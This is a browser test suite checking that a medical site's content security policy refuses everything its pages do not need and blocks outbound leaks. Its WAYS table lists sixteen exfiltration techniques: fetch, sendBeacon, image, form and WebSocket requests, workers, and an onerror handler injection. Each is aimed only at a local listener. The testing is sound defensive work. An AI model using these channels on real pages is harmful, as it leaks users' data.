"""The content security policy: nothing that the pages need is refused, nothing else gets out."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from scripts.finish.single_file import NAME
from scripts.serve import SITE, make_server
from tests.browser.faulty import FaultyHandler
from tests.browser.firefox import firefox
from tests.browser.serving import running
from tests.browser.waiting import wait_for_state, wait_until

# The one-file edition is for saving, and carries another policy of its own.
PAGES = sorted({file.relative_to(SITE).as_posix() for file in SITE.rglob("*.html")} - {NAME})
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  refused.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""
# Every way in which a page could send something away.
ADD = """
const add = (tag, given) =>
  document.body.append(Object.assign(document.createElement(tag), given));
const fetched = `fetch("${address}", {mode: "no-cors"})`;
"""
WAYS = {
    "fetch": "fetch(address, {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon(address, 'x')",
    "image": "new Image().src = address",
    "script": "add('script', {src: address})",
    "style": "add('link', {rel: 'stylesheet', href: address})",
    "frame": "add('iframe', {src: address})",
    "object": "add('object', {data: address})",
    "media": "new Audio(address).play().catch(() => 0)",
    "font": "new FontFace('x', `url(${address})`).load().catch(() => 0)",
    "events": "new EventSource(address)",
    "socket": "try { new WebSocket(address.replace('http', 'ws')) } catch {}",
    "form": "add('form', {action: address, method: 'post'}); [...document.forms].at(-1).submit()",
    "worker": "try { new Worker(address) } catch {}",
    "worker from text": "new Worker(URL.createObjectURL(new Blob([fetched])))",
    "inline script": "add('script', {textContent: fetched})",
    "handler": "document.body.insertAdjacentHTML('beforeend',"
    " `<img src='gone.png' onerror='${fetched}'>`)",
}


@pytest.mark.parametrize("name", [*PAGES, NAME])
def test_no_other_host_hears_from_where_a_reader_comes(name: str) -> None:
    assert '<meta name="referrer" content="no-referrer">' in (SITE / name).read_text("utf-8")


@pytest.fixture(scope="module")
def header() -> str:
    """Give the header as the ready configurations send it."""
    text = (SITE / "servers/Caddyfile").read_text(encoding="utf-8")
    [line] = [line for line in text.splitlines() if "Content-Security-Policy" in line]
    return line.split('"')[1]


@pytest.fixture
def guarded(header: str) -> Iterator[str]:
    """Serve the site with the header, as a hospital would."""
    added = {"Content-Security-Policy": header}
    handler = type("Handler", (FaultyHandler,), {"headers_added": added})
    with running(make_server(0, handler=handler)) as address:
        yield address


@pytest.fixture
def watched(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


@pytest.mark.long
def test_no_page_needs_what_the_policy_refuses(watched: Page, guarded: str) -> None:
    refused = {}
    for name in PAGES:
        watched.goto(guarded + name, wait_until="load")
        if found := watched.evaluate("refused"):
            refused[name] = found
    assert refused == {}


@pytest.mark.parametrize("name", ["calculator.html", "check.html", "guideline/index.html"])
def test_using_a_page_needs_nothing_that_the_policy_refuses(
    watched: Page, guarded: str, name: str
) -> None:
    watched.goto(f"{guarded}{name}#age=45&ild=yes" if "calc" in name else guarded + name)
    if name.startswith("calculator"):
        wait_for_state(watched, "ready")
        watched.locator("input[name=age]").fill("50")
        watched.get_by_role("button", name="Make a link").click()
    elif name.startswith("check"):
        wait_until(watched, "() => document.querySelector('#check').dataset.state !== 'loading'")
    else:
        watched.get_by_label("Search").first.click()
        watched.locator(".md-search__input").press_sequentially("plasma")
        watched.locator(".md-search-result__item").first.wait_for()
        watched.keyboard.press("Escape")
        watched.locator("label[for=__palette_1], label[for=__palette_2]").first.click()
    assert watched.evaluate("refused") == []


@pytest.mark.long
def test_no_page_is_refused_anything_in_firefox(guarded: str) -> None:
    with firefox() as fox:
        # What the page itself reports stands in its own words; the theme must have run.
        for name in ("index.html", "calculator.html", "recommendations/r08.html"):
            fox.open(guarded + name)
            fox.wait_until("() => document.documentElement.classList.contains('js')")
        fox.open(guarded + "calculator.html")
        fox.wait_until("() => document.querySelector('#calculator').dataset.state === 'ready'")


class Listener:
    """Counts who connects."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.count = 0
        self.thread = threading.Thread(target=self.listen, daemon=True)
        self.thread.start()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.socket.getsockname()[1]}/"

    def listen(self) -> None:
        while True:
            connection, _ = self.socket.accept()
            told = connection.recv(16)
            connection.close()
            if told == b"end":
                return
            # A connection opened in advance, with nothing sent, tells nobody anything.
            self.count += bool(told)

    def end(self) -> None:
        with socket.create_connection(self.socket.getsockname()) as connection:
            connection.sendall(b"end")
        self.thread.join()
        self.socket.close()


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.end()


@pytest.mark.parametrize("way", WAYS)
def test_nothing_can_be_sent_elsewhere(
    browser: Browser, site: str, elsewhere: Listener, way: str
) -> None:
    """The pages' own policy is enough: this server sends no header."""
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.goto(f"{site}calculator.html")
    page.evaluate(f"address => {{ {ADD} {WAYS[way]} }}", elsewhere.address)
    page.wait_for_timeout(250)
    context.close()
    assert elsewhere.count == 0


@pytest.mark.long
def test_the_listener_would_hear_it(browser: Browser, elsewhere: Listener, tmp_path: Path) -> None:
    """Without a policy the same ways get out, or the test above would prove nothing."""
    (tmp_path / "calculator.html").write_text("<!doctype html><body>", encoding="utf-8")
    server = make_server(0, tmp_path)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    heard = set()
    for way, script in WAYS.items():
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{server.server_port}/calculator.html")
        before = elsewhere.count
        page.evaluate(f"address => {{ {ADD} {script} }}", elsewhere.address)
        page.wait_for_timeout(250)
        if elsewhere.count > before:
            heard.add(way)
        context.close()
    server.shutdown()
    thread.join()
    server.server_close()
    # A worker's program may never come from another host, policy or not.
    assert heard == set(WAYS) - {"worker"}
